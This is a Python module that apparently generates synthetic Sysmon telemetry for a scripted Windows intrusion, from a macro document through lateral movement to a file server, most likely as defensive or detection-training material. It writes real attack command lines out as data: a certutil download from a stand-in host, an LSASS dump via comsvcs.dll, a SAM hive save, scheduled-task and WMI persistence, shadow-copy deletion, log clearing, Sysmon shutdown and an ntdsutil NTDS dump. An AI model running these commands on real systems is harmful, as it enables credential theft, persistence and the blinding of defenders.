"""The intrusion: a document on ws-041, a foothold there, then the file server.

One function a stage, in the order of time. All names, addresses and commands are written for this story.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

from story.background import OFFICE, SYSTEM, SYSTEM32, USER_HIVE, Workstation, windows_program
from story.recorder import Process, clock, hashes, moment, utc

DROPPER = "C:\\Users\\Public\\acroupd.exe"
DRIVER = "C:\\Users\\Public\\acrodrv.sys"
SOURCE_URL = "http://updates.example.net/pkg/acroupd.bin"
C2 = "198.51.100.77"
RUN_KEY = USER_HIVE + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"


@dataclass
class Foothold:
    """What later stages build on."""

    station: Workstation
    script: Process
    implant: Process


def document(station: Workstation) -> Process:
    """An attachment is opened; its macro drops a script and starts it. Returns the script host."""
    host = station.host
    folder = station.profile + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2ZP1C\\"
    path = folder + "Invoice_4471.docm"
    created = {"CreationUtcTime": "2026-03-04 08:40:12.204"}
    host.log(11, "08:40:12.204", station.outlook, TargetFilename=path, **created)
    host.log(
        15,
        "08:40:12.260",
        station.outlook,
        TargetFilename=path + ":Zone.Identifier",
        Hash=hashes("zone 4471", "SHA256"),
        Contents="[ZoneTransfer]  ZoneId=3  ",
        **created,
    )
    command = f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""'
    word = host.start("08:40:31.010", OFFICE + "WINWORD.EXE", command, station.outlook, OriginalFileName="WinWord.exe")
    library = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
    signed = {"Signed": "true", "Signature": "Microsoft Corporation", "SignatureStatus": "Valid"}
    host.log(
        7, "08:40:40.730", word, ImageLoaded=library, OriginalFileName="VBE7.DLL", Hashes=hashes(library), **signed
    )
    script = station.profile + "\\AppData\\Local\\Temp\\inv4471.js"
    host.log(11, "08:40:52.300", word, TargetFilename=script, CreationUtcTime="2026-03-04 08:40:52.300")
    wscript = SYSTEM32 + "wscript.exe"
    known = windows_program("wscript.exe", "Microsoft ® Windows Based Script Host")
    return host.start("08:40:55.118", wscript, f'"{wscript}" //B //E:jscript "{script}"', word, **known)


def download(station: Workstation, script: Process) -> Foothold:
    """Certutil fetches the implant, which keeps its mark of the web, and runs."""
    host = station.host
    shell = SYSTEM32 + "cmd.exe"
    fetch = f"certutil.exe -urlcache -split -f {SOURCE_URL} {DROPPER}"
    known = windows_program("Cmd.Exe", "Windows Command Processor")
    cmd = host.start("08:40:58.400", shell, f'"{shell}" /c {fetch}', script, **known)
    known = windows_program("CertUtil.exe", "CertUtil.exe")
    certutil = host.start("08:40:58.512", SYSTEM32 + "certutil.exe", fetch, cmd, **known)
    results = f"::ffff:{C2};"
    host.log(22, "08:41:00.014", certutil, QueryName="updates.example.net", QueryStatus="0", QueryResults=results)
    host.connect("08:41:00.120", certutil, C2, 80, name="updates.example.net")
    created = {"CreationUtcTime": "2026-03-04 08:41:02.440"}
    host.log(11, "08:41:02.440", certutil, TargetFilename=DROPPER, **created)
    host.log(29, "08:41:02.460", certutil, TargetFilename=DROPPER, Hashes=hashes(DROPPER))
    host.log(
        15,
        "08:41:02.480",
        certutil,
        TargetFilename=DROPPER + ":Zone.Identifier",
        Hash=hashes("zone acroupd", "SHA256"),
        Contents=f"[ZoneTransfer]  ZoneId=3  ReferrerUrl=http://updates.example.net/  HostUrl={SOURCE_URL}",
        **created,
    )
    host.log(5, "08:41:02.600", certutil)
    host.log(5, "08:41:02.610", cmd)
    implant = host.start("08:41:05.020", DROPPER, f"{DROPPER} -s", script, CurrentDirectory="C:\\Users\\Public\\")
    times = {"CreationUtcTime": "2019-03-19 04:43:41.000", "PreviousCreationUtcTime": "2026-03-04 08:41:02.440"}
    host.log(2, "08:41:05.900", implant, TargetFilename=DROPPER, **times)
    return Foothold(station, script, implant)


def look_around(foothold: Foothold) -> None:
    """Hidden PowerShell, then the questions every intruder asks."""
    host, implant = foothold.station.host, foothold.implant
    script = "Get-Process | Select-Object Name, Path | Out-File $env:TEMP\\p.txt"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
    known = windows_program("PowerShell.EXE", "Windows PowerShell")
    shell = host.start("08:41:06.300", image, f"powershell.exe -nop -w hidden -enc {encoded}", implant, **known)
    host.log(17, "08:41:06.700", shell, PipeName=f"\\PSHost.134171{shell.pid}.DefaultAppDomain.powershell")
    questions = [
        ("whoami.exe", "whoami /all"),
        ("net.exe", 'net group "Domain Admins" /domain'),
        ("nltest.exe", "nltest /dclist:corp.example"),
        ("systeminfo.exe", "systeminfo"),
        ("tasklist.exe", "tasklist /svc"),
        ("quser.exe", "quser"),
    ]
    for number, (name, command) in enumerate(questions):
        at = clock(8 * 3600 + 41 * 60 + 20 + number * 3)
        asked = host.start(at, SYSTEM32 + name, command, implant, OriginalFileName=name)
        host.log(5, clock(8 * 3600 + 41 * 60 + 21 + number * 3), asked)


def persist(foothold: Foothold) -> None:
    """A Run key, a scheduled task, a WMI subscription and a service with a driver."""
    host, implant = foothold.station.host, foothold.implant
    host.log(12, "08:42:00.100", implant, EventType="CreateKey", TargetObject=RUN_KEY)
    host.log(13, "08:42:00.120", implant, TargetObject=RUN_KEY + "\\AcrobatUpdate", Details=f"{DROPPER} -s")
    old_name = RUN_KEY.replace("\\Run", "\\AcroTmp")
    host.log(14, "08:42:00.300", implant, TargetObject=old_name, NewName=RUN_KEY.replace("\\Run", "\\AcroCfg"))
    command = f'schtasks /create /tn "Acrobat Update" /tr "{DROPPER} -s" /sc minute /mo 30 /f'
    known = windows_program("schtasks.exe", "Task Scheduler Configuration Tool")
    host.start("08:42:05.000", SYSTEM32 + "schtasks.exe", command, implant, **known)
    user = foothold.station.user
    query = "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_LocalTime'"
    namespace = ' "root\\\\cimv2"'
    wmi = {"Operation": "Created", "User": user}
    host.log(19, "08:42:20.010", EventNamespace=namespace, Name=' "AcroWatch"', Query=f' "{query}"', **wmi)
    destination = ' "C:\\\\Users\\\\Public\\\\acroupd.exe -w"'
    host.log(20, "08:42:20.030", Name=' "AcroRun"', Type="Command Line", Destination=destination, **wmi)
    subscription = "\\\\\\\\.\\\\root\\\\subscription:"
    consumer = f' "{subscription}CommandLineEventConsumer.Name=\\"AcroRun\\""'
    host.log(
        21, "08:42:20.050", Consumer=consumer, Filter=f' "{subscription}__EventFilter.Name=\\"AcroWatch\\""', **wmi
    )
    host.log(11, "08:42:39.000", implant, TargetFilename=DRIVER, CreationUtcTime="2026-03-04 08:42:39.000")
    command = f"sc.exe create acrodrv type= kernel start= demand binPath= {DRIVER}"
    known = windows_program("sc.exe", "Service Control Manager Configuration Tool")
    elevated = {"IntegrityLevel": "High", **known}
    host.start("08:42:40.000", SYSTEM32 + "sc.exe", command, implant, **elevated)
    key = "HKLM\\System\\CurrentControlSet\\Services\\acrodrv\\ImagePath"
    host.log(13, "08:42:40.200", foothold.station.services, TargetObject=key, Details=f"\\??\\{DRIVER}")
    broken = {"Signed": "false", "Signature": "-", "SignatureStatus": "Unavailable"}
    host.log(6, "08:42:41.000", ImageLoaded=DRIVER, Hashes=hashes(DRIVER), **broken)


def inject(foothold: Foothold) -> None:
    """A thread in explorer, and a hollowed svchost whose file is written while it runs."""
    host, implant, explorer = foothold.station.host, foothold.implant, foothold.station.explorer
    trace = (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000237A1B20014)"
    )
    host.log(10, "08:43:10.100", implant, explorer, SourceThreadId="6440", GrantedAccess="0x1fffff", CallTrace=trace)
    thread = {"NewThreadId": "7788", "StartAddress": "0x0000000003A10000"}
    host.log(8, "08:43:10.300", implant, explorer, **thread)
    copy = foothold.station.profile + "\\AppData\\Roaming\\svchost.exe"
    hollow = host.start("08:43:30.000", copy, f"{copy} -k netsvcs", implant, OriginalFileName="acroupd.exe")
    host.log(11, "08:43:30.050", implant, TargetFilename=copy, CreationUtcTime="2026-03-04 08:43:30.050")
    host.log(25, "08:43:30.080", hollow, Type="Image is replaced")


def steal_credentials(foothold: Foothold) -> None:
    """LSASS dumped through comsvcs.dll, the SAM hive saved, the disk read raw."""
    host, implant, lsass = foothold.station.host, foothold.implant, foothold.station.lsass
    dump = "C:\\Users\\Public\\a.dmp"
    image = SYSTEM32 + "rundll32.exe"
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
    known = {"IntegrityLevel": "High", **windows_program("RUNDLL32.EXE", "Windows host process (Rundll32)")}
    rundll = host.start("08:45:00.000", image, command, implant, **known)
    signed = {"Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid"}
    library = SYSTEM32 + "dbgcore.dll"
    host.log(
        7, "08:45:00.200", rundll, ImageLoaded=library, OriginalFileName="DBGCORE.DLL", Hashes=hashes(library), **signed
    )
    parts = ["ntdll.dll+9d204", "KERNELBASE.dll+2c13e", "comsvcs.dll+2b3e1", "dbgcore.dll+a1c2"]
    trace = "|".join(SYSTEM32 + part for part in parts)
    host.log(10, "08:45:00.300", rundll, lsass, SourceThreadId="6512", GrantedAccess="0x1fffff", CallTrace=trace)
    host.log(11, "08:45:00.400", rundll, TargetFilename=dump, CreationUtcTime="2026-03-04 08:45:00.400")
    command = "reg save HKLM\\SAM C:\\Users\\Public\\s.hiv /y"
    known = {"IntegrityLevel": "High", **windows_program("reg.exe", "Registry Console Tool")}
    host.start("08:45:20.000", SYSTEM32 + "reg.exe", command, implant, **known)
    host.log(9, "08:45:40.000", implant, Device="\\Device\\HarddiskVolume3")
    host.log(
        24,
        "08:46:10.000",
        implant,
        Session="1",
        ClientInfo=f"user: {foothold.station.user}",
        Hashes=hashes("clip"),
        Archived="true",
    )


def beacon(foothold: Foothold) -> None:
    """A connection a minute, and data in the names of DNS questions."""
    host, implant = foothold.station.host, foothold.implant
    host.log(17, "08:46:30.000", implant, PipeName="\\msupd-41-status")
    host.log(18, "08:46:30.100", foothold.station.explorer, PipeName="\\msupd-41-status")
    for minute in range(12):
        host.connect(clock(8 * 3600 + 47 * 60 + minute * 60), implant, C2, 443)
    for number in range(24):
        label = hashes(f"chunk {number}", "SHA256").removeprefix("SHA256=").lower()[:52]
        at = clock(8 * 3600 + 48 * 60 + number * 1.5)
        name = f"{label}.t.example.org"
        host.log(22, at, implant, QueryName=name, QueryStatus="0", QueryResults='type:  16 "ok";')
    host.log(
        22,
        "08:49:10.000",
        foothold.station.edge,
        QueryName="www.example.com",
        QueryStatus="0",
        QueryResults="::ffff:203.0.113.10;",
    )


def clean_up(foothold: Foothold) -> None:
    """Traces are deleted; what Sysmon blocks is tried first."""
    host, implant = foothold.station.host, foothold.implant
    second = "C:\\Users\\Public\\acroupd2.exe"
    host.log(27, "09:20:00.000", implant, TargetFilename=second, Hashes=hashes(second))
    wipe = host.start(
        "09:20:30.000",
        "C:\\Users\\Public\\sdel.exe",
        "sdel.exe -p 3 C:\\Users\\Public\\a.dmp",
        implant,
        OriginalFileName="sdelete.exe",
    )
    dump = "C:\\Users\\Public\\a.dmp"
    host.log(28, "09:20:31.000", wipe, TargetFilename=dump, Hashes=hashes(dump), IsExecutable="false")
    script = foothold.station.profile + "\\AppData\\Local\\Temp\\inv4471.js"
    host.log(
        23, "09:20:40.000", implant, TargetFilename=script, Hashes=hashes(script), IsExecutable="false", Archived="true"
    )
    host.log(26, "09:20:41.000", implant, TargetFilename=DROPPER, Hashes=hashes(DROPPER), IsExecutable="true")


def blind(foothold: Foothold) -> None:
    """The log is cleared, Sysmon gets an empty configuration, loses events and is stopped."""
    host, implant = foothold.station.host, foothold.implant
    elevated = {"IntegrityLevel": "High"}
    host.start(
        "09:21:00.000",
        SYSTEM32 + "wevtutil.exe",
        "wevtutil cl Security",
        implant,
        OriginalFileName="wevtutil.exe",
        **elevated,
    )
    host.start(
        "09:21:10.000",
        "C:\\Windows\\Sysmon64.exe",
        "Sysmon64.exe -c C:\\Users\\Public\\e.xml",
        implant,
        OriginalFileName="Sysmon.exe",
        **elevated,
    )
    host.log(
        16, "09:21:10.500", Configuration="C:\\Users\\Public\\e.xml", ConfigurationFileHash=hashes("empty", "SHA256")
    )
    host.log(255, "09:21:12.000", ID="QUEUE", Description="Events dropped from driver queue: ProcessAccess:120")
    host.start("09:21:20.000", SYSTEM32 + "sc.exe", "sc stop Sysmon64", implant, OriginalFileName="sc.exe", **elevated)
    host.log(4, "09:21:21.000", State="Stopped", Version="15.15", SchemaVersion="4.90")


def move_on(foothold: Foothold, server: Workstation) -> None:
    """Over SMB to the file server: a service, its pipes, a shell, shadow copies gone."""
    foothold.station.host.connect("09:02:00.000", foothold.implant, server.host.address, 445, name=server.host.name)
    host, services = server.host, server.services
    system = host.process("06:50:00", "System", "System", SYSTEM, 4)
    binary = "C:\\Windows\\acrosvc.exe"
    host.log(11, "09:02:01.000", system, TargetFilename=binary, CreationUtcTime=utc(moment("09:02:01.000")))
    host.log(29, "09:02:01.010", system, TargetFilename=binary, Hashes=hashes(binary))
    key = "HKLM\\System\\CurrentControlSet\\Services\\acrosvc\\ImagePath"
    host.log(13, "09:02:01.500", services, TargetObject=key, Details="%%SystemRoot%%\\acrosvc.exe")
    service = host.start("09:02:02.000", binary, binary, services)
    for end in ("stdin", "stdout", "stderr"):
        name = f"\\acrosvc-WS-041-5120-{end}"
        host.log(17, "09:02:02.500", service, PipeName=name)
        host.log(18, "09:02:02.700", system, PipeName=name)
    shell = host.start("09:02:03.000", SYSTEM32 + "cmd.exe", "cmd.exe", service, OriginalFileName="Cmd.Exe")
    host.start("09:02:20.000", SYSTEM32 + "whoami.exe", "whoami", shell, OriginalFileName="whoami.exe")
    command = "vssadmin delete shadows /all /quiet"
    host.start("09:02:40.000", SYSTEM32 + "vssadmin.exe", command, shell, OriginalFileName="VSSADMIN.EXE")
    command = 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\n" q q'
    host.start("09:03:10.000", SYSTEM32 + "ntdsutil.exe", command, shell, OriginalFileName="ntdsutil.exe")
